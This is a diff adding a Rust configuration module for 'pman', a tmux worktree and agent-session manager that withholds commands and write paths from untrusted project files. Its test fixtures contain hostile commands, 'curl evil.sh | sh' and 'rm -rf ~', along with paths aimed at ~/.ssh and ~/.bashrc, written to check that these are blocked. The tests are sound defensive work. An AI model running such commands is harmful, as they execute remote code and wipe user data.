@@ -0,0 +1,981 @@
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use toml::{Table, Value};
+
+use crate::error::{PmanError, Result};
+use crate::integrations::{shell_quote, GitClient, TrustStore};
+use crate::models::MergeStrategy;
+use crate::tui::Keymap;
+
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    pub popup: PopupConfig,
+    pub tmux: TmuxConfig,
+    pub worktree: WorktreeConfig,
+    pub merge: MergeConfig,
+    pub commands: CommandsConfig,
+    pub keys: KeysConfig,
+    pub agents: BTreeMap<String, AgentProfile>,
+    pub status: StatusConfig,
+    pub preview: PreviewConfig,
+    pub hooks: HooksConfig,
+    pub layouts: BTreeMap<String, SessionLayout>,
+    pub snapshot: SnapshotConfig,
+    pub history: HistoryConfig,
+    /// Where each effective value came from, by dotted key
+    #[serde(skip)]
+    pub sources: BTreeMap<String, ConfigSource>,
+    /// Commands and paths left out of a project file that is not trusted yet
+    #[serde(skip)]
+    pub untrusted: Option<UntrustedProject>,
+}
+
+/// A `.pman.toml` that sets commands pman would run or paths it would write to, loaded
+/// without them until the user trusts it.
+#[derive(Debug, Clone)]
+pub struct UntrustedProject {
+    pub file: PathBuf,
+    /// What the file read when loaded, which is what trusting it agrees to
+    pub contents: String,
+    /// Dotted keys left out, e.g. `hooks.setup`
+    pub keys: Vec<String>,
+    /// The `TrustStore` file to record trust in
+    pub trust_path: PathBuf,
+    /// The config with the commands, to use once trusted
+    pub config: Box<Config>,
+}
+
+/// A layer of configuration, in increasing precedence.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum ConfigSource {
+    Default,
+    /// `~/.config/pman/config.toml`
+    User(PathBuf),
+    /// The nearest `.pman.toml`
+    Project(PathBuf),
+}
+
+impl ConfigSource {
+    pub fn label(&self) -> String {
+        match self {
+            Self::Default => "default".to_string(),
+            Self::User(path) | Self::Project(path) => path.display().to_string(),
+        }
+    }
+}
+
+/// One effective value, for display.
+#[derive(Debug, Clone)]
+pub struct ConfigEntry {
+    pub key: String,
+    pub value: String,
+    pub source: ConfigSource,
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct PopupConfig {
+    pub sessions: PopupSize,
+    pub palette: PopupSize,
+    pub worktrees: PopupSize,
+    pub find_files: PopupSize,
+    pub git_diff: PopupSize,
+}
+
+impl Default for PopupConfig {
+    fn default() -> Self {
+        Self {
+            sessions: PopupSize::new("80%", "80%"),
+            palette: PopupSize::new("80%", "80%"),
+            worktrees: PopupSize::new("80%", "80%"),
+            find_files: PopupSize::new("90%", "90%"),
+            git_diff: PopupSize::new("90%", "90%"),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+pub struct PopupSize {
+    pub width: String,
+    pub height: String,
+}
+
+impl PopupSize {
+    fn new(width: &str, height: &str) -> Self {
+        Self {
+            width: width.to_string(),
+            height: height.to_string(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct TmuxConfig {
+    /// Name of the window files are opened in
+    pub editor_window: String,
+}
+
+impl Default for TmuxConfig {
+    fn default() -> Self {
+        Self {
+            editor_window: "editor".to_string(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct WorktreeConfig {
+    /// Where new worktrees go; see `WorktreeConfig::PLACEHOLDERS`
+    pub path: String,
+    /// Pre-filled when asking for a new branch name, e.g. `alice/`
+    pub branch_prefix: String,
+}
+
+impl WorktreeConfig {
+    /// Placeholders `path` may contain.
+    pub const PLACEHOLDERS: &'static [&'static str] =
+        &["repo", "repo_parent", "branch", "branch_slug"];
+}
+
+impl Default for WorktreeConfig {
+    fn default() -> Self {
+        Self {
+            path: "{repo_parent}/{repo}.worktrees/{branch_slug}".to_string(),
+            branch_prefix: String::new(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct MergeConfig {
+    /// Strategy preselected in the merge dialog
+    pub strategy: MergeStrategy,
+}
+
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct CommandsConfig {
+    /// Shell pipeline run instead of the built-in file finder, e.g. with fzf
+    pub find_files: Option<String>,
+    /// Shell command shown in a popup instead of the built-in diff viewer
+    pub git_diff: Option<String>,
+}
+
+/// Extra key bindings per view, e.g. `"ctrl-d" = "delete"`; `"none"` unbinds a default.
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct KeysConfig {
+    pub global: BTreeMap<String, String>,
+    pub session_picker: BTreeMap<String, String>,
+    pub command_palette: BTreeMap<String, String>,
+    pub file_picker: BTreeMap<String, String>,
+    pub worktree_picker: BTreeMap<String, String>,
+    pub buffer_picker: BTreeMap<String, String>,
+    pub config_viewer: BTreeMap<String, String>,
+    pub diff_viewer: BTreeMap<String, String>,
+    pub input_dialog: BTreeMap<String, String>,
+    pub confirm_dialog: BTreeMap<String, String>,
+    pub select_dialog: BTreeMap<String, String>,
+}
+
+/// Steps run after pman creates a worktree.
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct HooksConfig {
+    /// Paths copied from the main worktree, e.g. `.env`
+    pub copy: Vec<PathBuf>,
+    /// Paths linked to the main worktree's copy, e.g. `node_modules`
+    pub symlink: Vec<PathBuf>,
+    /// Shell commands run in order in the new session's setup window
+    pub setup: Vec<String>,
+}
+
+impl HooksConfig {
+    pub fn is_empty(&self) -> bool {
+        self.copy.is_empty() && self.symlink.is_empty() && self.setup.is_empty()
+    }
+}
+
+/// A command pman can launch in a fresh worktree session, e.g. `[agents.claude]`.
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+pub struct AgentProfile {
+    /// Shell command that starts the agent
+    pub command: String,
+    #[serde(default)]
+    pub args: Vec<String>,
+    #[serde(default)]
+    pub env: BTreeMap<String, String>,
+    /// File whose contents are passed as the agent's last argument
+    pub prompt_file: Option<PathBuf>,
+}
+
+impl AgentProfile {
+    /// The full shell command line, with arguments and the initial prompt quoted.
+    pub fn command_line(&self) -> Result<String> {
+        let mut line = self.command.clone();
+        for arg in &self.args {
+            line.push(' ');
+            line.push_str(&shell_quote(arg));
+        }
+
+        if let Some(ref prompt_file) = self.prompt_file {
+            let prompt = fs::read_to_string(prompt_file).map_err(|e| {
+                PmanError::Config(format!("prompt_file {}: {}", prompt_file.display(), e))
+            })?;
+            line.push(' ');
+            line.push_str(&shell_quote(prompt.trim_end()));
+        }
+
+        Ok(line)
+    }
+}
+
+/// Windows and panes a new session starts with, e.g. `[layouts.dev]`.
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+pub struct SessionLayout {
+    pub windows: Vec<WindowLayout>,
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(deny_unknown_fields)]
+pub struct WindowLayout {
+    pub name: String,
+    /// Working directory, relative to the session's
+    pub root: Option<PathBuf>,
+    /// tmux layout applied once the panes exist, e.g. `main-vertical`
+    pub layout: Option<String>,
+    /// Empty means a single shell
+    #[serde(default)]
+    pub panes: Vec<PaneLayout>,
+}
+
+/// A pane split off the one before it. `split` and `size` are ignored for the first.
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct PaneLayout {
+    /// Typed into the pane's shell, so the shell remains when it exits
+    pub command: Option<String>,
+    /// Working directory, relative to the window's
+    pub root: Option<PathBuf>,
+    pub split: SplitDirection,
+    /// Size of the new pane, e.g. `"30%"` or `"40"` cells
+    pub size: Option<String>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize, Serialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum SplitDirection {
+    #[default]
+    Right,
+    Below,
+}
+
+/// Saved sessions for `pman snapshot` and `pman restore`.
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct SnapshotConfig {
+    pub path: PathBuf,
+    /// Seconds between snapshots taken while pman is open; 0 turns them off
+    pub auto_interval_secs: u64,
+    /// Programs whose saved commands `pman restore` runs again, e.g. `["claude", "nvim"]`;
+    /// other panes only get their directory back
+    pub restore_commands: Vec<String>,
+}
+
+impl Default for SnapshotConfig {
+    fn default() -> Self {
+        Self {
+            path: state_dir().join("snapshot.json"),
+            auto_interval_secs: 0,
+            restore_commands: Vec::new(),
+        }
+    }
+}
+
+/// What was entered in input dialogs, recalled with up and down.
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct HistoryConfig {
+    pub path: PathBuf,
+    /// Entries kept per dialog; 0 turns history off
+    pub max_entries: usize,
+}
+
+impl Default for HistoryConfig {
+    fn default() -> Self {
+        Self {
+            path: state_dir().join("history.json"),
+            max_entries: 100,
+        }
+    }
+}
+
+/// `$XDG_STATE_HOME/pman`, or `~/.local/state/pman`.
+fn state_dir() -> PathBuf {
+    let state_home = std::env::var_os("XDG_STATE_HOME")
+        .map(PathBuf::from)
+        .filter(|p| p.is_absolute())
+        .or_else(|| home_dir().map(|home| home.join(".local").join("state")))
+        .unwrap_or_default();
+    state_home.join("pman")
+}
+
+/// Pane preview beside the session picker.
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct PreviewConfig {
+    pub enabled: bool,
+    /// Lines captured from the bottom of the selected session's active pane
+    pub lines: usize,
+    pub refresh_ms: u64,
+}
+
+impl Default for PreviewConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            lines: 200,
+            refresh_ms: 500,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct StatusConfig {
+    /// Seconds without output after which a pane counts as idle
+    pub idle_after_secs: u64,
+    /// Lines from the bottom of a pane that detectors are matched against
+    pub scan_lines: usize,
+    /// How often the session picker re-checks statuses while open
+    pub refresh_ms: u64,
+    /// Prompt detectors by agent type; built-in ones exist for claude, codex and aider
+    pub detectors: BTreeMap<String, DetectorConfig>,
+}
+
+impl Default for StatusConfig {
+    fn default() -> Self {
+        Self {
+            idle_after_secs: 10,
+            scan_lines: 20,
+            refresh_ms: 1000,
+            detectors: DetectorConfig::builtin(),
+        }
+    }
+}
+
+#[derive(Debug, Clone, Default, Deserialize, Serialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct DetectorConfig {
+    /// `pane_current_command` values that identify this agent
+    pub commands: Vec<String>,
+    /// Regexes meaning the agent is waiting for the user
+    pub waiting: Vec<String>,
+    /// Regexes meaning the agent is working
+    pub busy: Vec<String>,
+}
+
+impl DetectorConfig {
+    fn new(commands: &[&str], waiting: &[&str], busy: &[&str]) -> Self {
+        let strings = |items: &[&str]| items.iter().map(|s| s.to_string()).collect();
+        Self {
+            commands: strings(commands),
+            waiting: strings(waiting),
+            busy: strings(busy),
+        }
+    }
+
+    fn builtin() -> BTreeMap<String, Self> {
+        BTreeMap::from([
+            (
+                "claude".to_string(),
+                Self::new(
+                    &["claude"],
+                    &[r"Do you want to", r"❯ 1\. Yes", r"\(y/n\)"],
+                    &[r"esc to interrupt"],
+                ),
+            ),
+            (
+                "codex".to_string(),
+                Self::new(
+                    &["codex"],
+                    &[r"Allow command\?", r"\(y/n\)"],
+                    &[r"esc to interrupt", r"Working \("],
+                ),
+            ),
+            (
+                "aider".to_string(),
+                Self::new(&["aider"], &[r"\(Y\)es/\(N\)o", r"^\S*>\s*$"], &[]),
+            ),
+        ])
+    }
+}
+
+impl Config {
+    /// Load the user config with the nearest `.pman.toml` above `current_path` merged
+    /// over it, falling back to defaults for anything neither sets.
+    pub fn load(current_path: &Path) -> Result<Self> {
+        let mut layers = Vec::new();
+        if let Some(path) = Self::path().filter(|p| p.exists()) {
+            layers.push(ConfigSource::User(path));
+        }
+        if let Some(path) = Self::project_path(current_path) {
+            layers.push(ConfigSource::Project(path));
+        }
+        Self::load_layers(&layers, &TrustStore::load(Self::trust_path()))
+    }
+
+    /// Where the project files trusted with commands are listed.
+    pub fn trust_path() -> PathBuf {
+        state_dir().join("trusted.json")
+    }
+
+    /// `$XDG_CONFIG_HOME/pman/config.toml`, or `~/.config/pman/config.toml`.
+    pub fn path() -> Option<PathBuf> {
+        let config_home = std::env::var_os("XDG_CONFIG_HOME")
+            .map(PathBuf::from)
+            .filter(|p| p.is_absolute())
+            .or_else(|| home_dir().map(|home| home.join(".config")))?;
+
+        Some(config_home.join("pman").join("config.toml"))
+    }
+
+    /// The first `.pman.toml` in `dir` or its ancestors, or else in the main worktree
+    /// of the repository `dir` is in.
+    pub fn project_path(dir: &Path) -> Option<PathBuf> {
+        dir.ancestors()
+            .chain(GitClient::main_worktree_of(dir).as_deref())
+            .map(|d| d.join(PROJECT_FILE))
+            .find(|p| p.is_file())
+    }
+
+    /// Merge `layers` in order over the defaults.
+    ///
+    /// Tables are merged key by key; any other value, including an array, replaces the
+    /// one below it. So a layer may set part of a table, and only the merged result has
+    /// to be complete.
+    ///
+    /// The `TRUSTED_KEYS` of a project file `trust` does not list are left out; see
+    /// `Config::untrusted`.
+    pub fn load_layers(layers: &[ConfigSource], trust: &TrustStore) -> Result<Self> {
+        let mut config = Self::merge_layers(layers, Some(trust))?;
+        if let Some(ref mut untrusted) = config.untrusted {
+            *untrusted.config = Self::merge_layers(layers, None)?;
+        }
+        Ok(config)
+    }
+
+    /// Merge `layers`, without the `TRUSTED_KEYS` of project files `trust` does not list.
+    fn merge_layers(layers: &[ConfigSource], trust: Option<&TrustStore>) -> Result<Self> {
+        let mut untrusted = None;
+        let mut merged = Self::default_table();
+        let mut sources = BTreeMap::new();
+        // The first layer since which the merged config has been invalid, so errors point
+        // at the file that broke it
+        let mut broken_by = None;
+        let mut config = Self::from_table(merged.clone());
+
+        for source in layers {
+            let (ConfigSource::User(path) | ConfigSource::Project(path)) = source else {
+                continue;
+            };
+            let in_file = |msg: String| PmanError::Config(format!("{}: {}", path.display(), msg));
+
+            let contents = fs::read_to_string(path).map_err(|e| in_file(e.to_string()))?;
+            let mut table: Table =
+                toml::from_str(&contents).map_err(|e| in_file(e.to_string()))?;
+            if let (ConfigSource::Project(_), Some(dir)) = (source, path.parent()) {
+                resolve_prompt_files(&mut table, dir);
+            }
+            let trust = trust.filter(|t| !t.is_trusted(path, &contents));
+            if let (ConfigSource::Project(_), Some(trust)) = (source, trust) {
+                let keys = take_trusted_keys(&mut table);
+                if !keys.is_empty() {
+                    untrusted = Some(UntrustedProject {
+                        file: path.clone(),
+                        contents: contents.clone(),
+                        keys,
+                        trust_path: trust.path().to_path_buf(),
+                        config: Box::default(),
+                    });
+                }
+            }
+
+            record_sources(&table, "", source, &mut sources);
+            merge_tables(&mut merged, table);
+            config = Self::from_table(merged.clone());
+            match config {
+                Ok(_) => broken_by = None,
+                Err(_) => broken_by = broken_by.or(Some(path)),
+            }
+        }
+
+        let mut config = config.map_err(|msg| {
+            let file = broken_by.map_or("defaults".to_string(), |p| p.display().to_string());
+            PmanError::Config(format!("{}: {}", file, msg))
+        })?;
+        config.sources = sources;
+        config.untrusted = untrusted;
+        Ok(config)
+    }
+
+    /// The defaults as a table to merge layers over, so a layer can set part of, say, a
+    /// popup size. Detectors are left out: a configured one replaces the built-in one of
+    /// the same name as a whole.
+    fn default_table() -> Table {
+        let mut table = match Value::try_from(Self::default()) {
+            Ok(Value::Table(table)) => table,
+            _ => Table::new(),
+        };
+        if let Some(Value::Table(status)) = table.get_mut("status") {
+            status.remove("detectors");
+        }
+        table
+    }
+
+    fn from_table(table: Table) -> std::result::Result<Self, String> {
+        let mut config: Config = Value::Table(table)
+            .try_into()
+            .map_err(|e: toml::de::Error| e.message().to_string())?;
+
+        // Configured detectors replace built-in ones of the same name only
+        for (name, detector) in DetectorConfig::builtin() {
+            config.status.detectors.entry(name).or_insert(detector);
+        }
+
+        config.validate()?;
+        config.expand_paths();
+        Ok(config)
+    }
+
+    /// Every effective value with its source, in key order.
+    pub fn entries(&self) -> Vec<ConfigEntry> {
+        let mut entries = Vec::new();
+        if let Ok(Value::Table(table)) = Value::try_from(self) {
+            collect_entries(&table, "", &self.sources, &mut entries);
+        }
+        entries
+    }
+
+    fn validate(&self) -> std::result::Result<(), String> {
+        let popups = [
+            ("popup.sessions", &self.popup.sessions),
+            ("popup.palette", &self.popup.palette),
+            ("popup.worktrees", &self.popup.worktrees),
+            ("popup.find_files", &self.popup.find_files),
+            ("popup.git_diff", &self.popup.git_diff),
+        ];
+        for (key, size) in popups {
+            validate_size(&format!("{}.width", key), &size.width)?;
+            validate_size(&format!("{}.height", key), &size.height)?;
+        }
+
+        let template = &self.worktree.path;
+        let placeholders = Regex::new(r"\{([^{}]*)\}").expect("valid regex");
+        for placeholder in placeholders.captures_iter(template) {
+            if !WorktreeConfig::PLACEHOLDERS.contains(&&placeholder[1]) {
+                return Err(format!(
+                    "worktree.path: unknown placeholder '{}' (expected one of {{{}}})",
+                    &placeholder[0],
+                    WorktreeConfig::PLACEHOLDERS.join("}, {")
+                ));
+            }
+        }
+        if !template.contains("{branch}") && !template.contains("{branch_slug}") {
+            return Err("worktree.path must contain {branch} or {branch_slug}".to_string());
+        }
+
+        let editor_window = &self.tmux.editor_window;
+        if editor_window.trim().is_empty() {
+            return Err("tmux.editor_window must not be empty".to_string());
+        }
+        if editor_window.contains([':', '.']) {
+            return Err(format!(
+                "tmux.editor_window '{}' must not contain ':' or '.'",
+                editor_window
+            ));
+        }
+
+        if self.commands.find_files.as_ref().is_some_and(|c| c.trim().is_empty()) {
+            return Err("commands.find_files must not be empty".to_string());
+        }
+        if self.commands.git_diff.as_ref().is_some_and(|c| c.trim().is_empty()) {
+            return Err("commands.git_diff must not be empty".to_string());
+        }
+
+        if let Err(PmanError::Config(msg)) = Keymap::new(&self.keys) {
+            return Err(msg);
+        }
+
+        for (name, agent) in &self.agents {
+            if name.is_empty() || name.contains([':', '.']) {
+                return Err(format!("agents.{}: name must not be empty or contain ':' or '.'", name));
+            }
+            if agent.command.trim().is_empty() {
+                return Err(format!("agents.{}.command must not be empty", name));
+            }
+            for key in agent.env.keys() {
+                let valid = !key.is_empty()
+                    && !key.starts_with(|c: char| c.is_ascii_digit())
+                    && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+                if !valid {
+                    return Err(format!(
+                        "agents.{}.env: '{}' is not a valid environment variable name",
+                        name, key
+                    ));
+                }
+            }
+        }
+
+        for (name, layout) in &self.layouts {
+            if layout.windows.is_empty() {
+                return Err(format!("layouts.{}.windows must not be empty", name));
+            }
+            for window in &layout.windows {
+                if window.name.trim().is_empty() || window.name.contains([':', '.']) {
+                    return Err(format!(
+                        "layouts.{}: window name '{}' must not be empty or contain ':' or '.'",
+                        name, window.name
+                    ));
+                }
+                for pane in &window.panes {
+                    if let Some(ref size) = pane.size {
+                        validate_size(&format!("layouts.{}.{}.size", name, window.name), size)?;
+                    }
+                }
+            }
+        }
+
+        for (name, detector) in &self.status.detectors {
+            for pattern in detector.waiting.iter().chain(&detector.busy) {
+                if let Err(e) = Regex::new(pattern) {
+                    return Err(format!("status.detectors.{}: {}", name, e));
+                }
+            }
+        }
+        if self.status.scan_lines == 0 {
+            return Err("status.scan_lines must be at least 1".to_string());
+        }
+        if self.preview.lines == 0 {
+            return Err("preview.lines must be at least 1".to_string());
+        }
+
+        let hook_paths = [("hooks.copy", &self.hooks.copy), ("hooks.symlink", &self.hooks.symlink)];
+        for (key, paths) in hook_paths {
+            for path in paths {
+                // Hooks must stay inside the worktrees they copy between
+                let inside = path
+                    .components()
+                    .all(|c| matches!(c, Component::Normal(_) | Component::CurDir));
+                if !inside || path.as_os_str().is_empty() {
+                    return Err(format!(
+                        "{}: '{}' must be a relative path inside the repository",
+                        key,
+                        path.display()
+                    ));
+                }
+            }
+        }
+
+        Ok(())
+    }
+
+    fn expand_paths(&mut self) {
+        let worktree_path = expand_home(Path::new(&self.worktree.path));
+        self.worktree.path = worktree_path.to_string_lossy().to_string();
+        for agent in self.agents.values_mut() {
+            if let Some(prompt_file) = agent.prompt_file.take() {
+                agent.prompt_file = Some(expand_home(&prompt_file));
+            }
+        }
+        self.snapshot.path = expand_home(&self.snapshot.path);
+        self.history.path = expand_home(&self.history.path);
+        for window in self.layouts.values_mut().flat_map(|l| &mut l.windows) {
+            if let Some(root) = window.root.take() {
+                window.root = Some(expand_home(&root));
+            }
+            for pane in &mut window.panes {
+                if let Some(root) = pane.root.take() {
+                    pane.root = Some(expand_home(&root));
+                }
+            }
+        }
+    }
+}
+
+/// Name of the project-local config file.
+pub const PROJECT_FILE: &str = ".pman.toml";
+
+/// Dotted key for display, quoting segments that are not bare TOML keys.
+fn join_key(prefix: &str, key: &str) -> String {
+    let bare = !key.is_empty()
+        && key
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
+    let key = if bare { key.to_string() } else { format!("{:?}", key) };
+    if prefix.is_empty() {
+        key
+    } else {
+        format!("{}.{}", prefix, key)
+    }
+}
+
+fn record_sources(
+    table: &Table,
+    prefix: &str,
+    source: &ConfigSource,
+    sources: &mut BTreeMap<String, ConfigSource>,
+) {
+    for (key, value) in table {
+        let key = join_key(prefix, key);
+        match value {
+            Value::Table(inner) => record_sources(inner, &key, source, sources),
+            _ => {
+                sources.insert(key, source.clone());
+            }
+        }
+    }
+}
+
+/// Keys a project file may only set once trusted: the commands pman runs and the places
+/// it writes to.
+const TRUSTED_KEYS: &[&str] = &[
+    "agents",
+    "commands",
+    "layouts",
+    "hooks.setup",
+    "worktree.path",
+    "history.path",
+    "snapshot.path",
+    "snapshot.auto_interval_secs",
+    "snapshot.restore_commands",
+];
+
+/// Remove the `TRUSTED_KEYS` from a project file, returning the dotted keys removed.
+fn take_trusted_keys(table: &mut Table) -> Vec<String> {
+    let mut keys = Vec::new();
+    for key in TRUSTED_KEYS {
+        let removed = match key.split_once('.') {
+            Some((section, name)) => match table.get_mut(section) {
+                Some(Value::Table(section)) => section.remove(name).is_some(),
+                _ => false,
+            },
+            None => table.remove(*key).is_some(),
+        };
+        if removed {
+            keys.push(key.to_string());
+        }
+    }
+    keys
+}
+
+/// Make relative `agents.*.prompt_file` paths relative to `dir`, the directory of the
+/// project file setting them, rather than wherever pman runs.
+fn resolve_prompt_files(table: &mut Table, dir: &Path) {
+    let Some(Value::Table(agents)) = table.get_mut("agents") else {
+        return;
+    };
+    for (_, agent) in agents.iter_mut() {
+        if let Some(Value::String(prompt_file)) = agent.get_mut("prompt_file") {
+            let path = expand_home(Path::new(prompt_file.as_str()));
+            *prompt_file = dir.join(path).to_string_lossy().to_string();
+        }
+    }
+}
+
+fn merge_tables(base: &mut Table, overlay: Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(Value::Table(base_inner)), Value::Table(inner)) => {
+                merge_tables(base_inner, inner);
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+fn collect_entries(
+    table: &Table,
+    prefix: &str,
+    sources: &BTreeMap<String, ConfigSource>,
+    entries: &mut Vec<ConfigEntry>,
+) {
+    for (key, value) in table {
+        let key = join_key(prefix, key);
+        match value {
+            Value::Table(inner) if !inner.is_empty() => {
+                collect_entries(inner, &key, sources, entries)
+            }
+            _ => entries.push(ConfigEntry {
+                value: value.to_string(),
+                source: sources.get(&key).cloned().unwrap_or(ConfigSource::Default),
+                key,
+            }),
+        }
+    }
+}
+
+/// Popup sizes are passed to `tmux display-popup` and must be a cell count or a percentage.
+fn validate_size(key: &str, value: &str) -> std::result::Result<(), String> {
+    let (number, is_percent) = match value.strip_suffix('%') {
+        Some(number) => (number, true),
+        None => (value, false),
+    };
+
+    match number.parse::<u32>() {
+        Ok(n) if n > 0 && (!is_percent || n <= 100) => Ok(()),
+        _ => Err(format!(
+            "{} = '{}' is not a valid size (expected e.g. \"80%\" or \"120\")",
+            key, value
+        )),
+    }
+}
+
+pub fn home_dir() -> Option<PathBuf> {
+    std::env::var_os("HOME").map(PathBuf::from)
+}
+
+pub fn expand_home(path: &Path) -> PathBuf {
+    match (path.strip_prefix("~"), home_dir()) {
+        (Ok(rest), Some(home)) => home.join(rest),
+        _ => path.to_path_buf(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn write(dir: &Path, name: &str, contents: &str) -> PathBuf {
+        let path = dir.join(name);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, contents).unwrap();
+        path
+    }
+
+    /// A `TrustStore` in `dir` that trusts `project` as it is now.
+    fn trusting(dir: &Path, project: &Path) -> TrustStore {
+        let mut trust = TrustStore::load(dir.join("trusted.json"));
+        trust.trust(project, &fs::read_to_string(project).unwrap()).unwrap();
+        trust
+    }
+
+    #[test]
+    fn project_files_may_override_part_of_a_table() {
+        let dir = tempfile::tempdir().unwrap();
+        let user = write(dir.path(), "config.toml", "[agents.claude]\ncommand = \"claude\"\n");
+        let project = write(
+            dir.path(),
+            "repo/.pman.toml",
+            "[agents.claude]\nargs = [\"--model\", \"opus\"]\nprompt_file = \"prompt.md\"\n\n\
+             [popup.sessions]\nwidth = \"50%\"\n",
+        );
+
+        let trust = trusting(dir.path(), &project);
+        let config = Config::load_layers(
+            &[ConfigSource::User(user.clone()), ConfigSource::Project(project.clone())],
+            &trust,
+        )
+        .unwrap();
+
+        let claude = &config.agents["claude"];
+        assert_eq!(claude.command, "claude");
+        assert_eq!(claude.args, ["--model", "opus"]);
+        // Next to the project file, not wherever pman runs
+        assert_eq!(claude.prompt_file, Some(dir.path().join("repo/prompt.md")));
+        assert_eq!(
+            (config.popup.sessions.width.as_str(), config.popup.sessions.height.as_str()),
+            ("50%", "80%")
+        );
+        assert_eq!(config.sources["agents.claude.command"], ConfigSource::User(user));
+        assert_eq!(config.sources["agents.claude.args"], ConfigSource::Project(project));
+    }
+
+    #[test]
+    fn errors_name_the_file_that_broke_the_merged_config() {
+        let dir = tempfile::tempdir().unwrap();
+        let user = write(dir.path(), "config.toml", "[merge]\nstrategy = \"squash\"\n");
+        let project = write(dir.path(), ".pman.toml", "[agents.aider]\nargs = [\"--yes\"]\n");
+
+        let trust = trusting(dir.path(), &project);
+        let layers = [ConfigSource::User(user), ConfigSource::Project(project)];
+
+        let error = Config::load_layers(&layers, &trust).unwrap_err().to_string();
+
+        assert!(error.contains(".pman.toml: missing field `command`"), "{}", error);
+    }
+
+    #[test]
+    fn commands_and_paths_from_untrusted_project_files_are_left_out() {
+        let dir = tempfile::tempdir().unwrap();
+        let user = write(dir.path(), "config.toml", "[hooks]
+setup = [\"make\"]\n");
+        let project = write(
+            dir.path(),
+            ".pman.toml",
+            "[agents.evil]\ncommand = \"curl evil.sh | sh\"\n\n\
+             [hooks]\ncopy = [\".env\"]\nsetup = [\"rm -rf ~\"]\n\n\
+             [worktree]\npath = \"~/.ssh/{branch}\"\n\n\
+             [snapshot]\npath = \"~/.bashrc\"\nauto_interval_secs = 60\n\
+             restore_commands = [\"make\"]\n\n\
+             [status]\nidle_after_secs = 5\n",
+        );
+        let layers = [ConfigSource::User(user), ConfigSource::Project(project.clone())];
+        let trust = TrustStore::load(dir.path().join("trusted.json"));
+
+        let config = Config::load_layers(&layers, &trust).unwrap();
+
+        assert!(config.agents.is_empty());
+        assert_eq!(config.hooks.setup, ["make"]);
+        assert_eq!(config.hooks.copy, [PathBuf::from(".env")]);
+        assert_eq!(config.worktree.path, Config::default().worktree.path);
+        assert_eq!(config.snapshot.path, Config::default().snapshot.path);
+        assert_eq!(config.snapshot.auto_interval_secs, 0);
+        assert!(config.snapshot.restore_commands.is_empty());
+        assert_eq!(config.status.idle_after_secs, 5);
+        let untrusted = config.untrusted.unwrap();
+        assert_eq!(untrusted.file, project);
+        assert_eq!(
+            untrusted.keys,
+            [
+                "agents",
+                "hooks.setup",
+                "worktree.path",
+                "snapshot.path",
+                "snapshot.auto_interval_secs",
+                "snapshot.restore_commands"
+            ]
+        );
+        assert_eq!(untrusted.config.hooks.setup, ["rm -rf ~"]);
+        assert!(untrusted.config.agents.contains_key("evil"));
+    }
+
+    #[test]
+    fn trusted_project_files_are_untrusted_again_once_they_change() {
+        let dir = tempfile::tempdir().unwrap();
+        let project = write(dir.path(), ".pman.toml", "[hooks]\nsetup = [\"make\"]\n");
+        let trust = trusting(dir.path(), &project);
+        let layers = [ConfigSource::Project(project.clone())];
+        assert_eq!(Config::load_layers(&layers, &trust).unwrap().hooks.setup, ["make"]);
+
+        // e.g. after a `git pull`
+        fs::write(&project, "[hooks]\nsetup = [\"make\", \"curl evil.sh | sh\"]\n").unwrap();
+        let config = Config::load_layers(&layers, &trust).unwrap();
+
+        assert!(config.hooks.setup.is_empty());
+        assert_eq!(config.untrusted.unwrap().keys, ["hooks.setup"]);
+    }
+}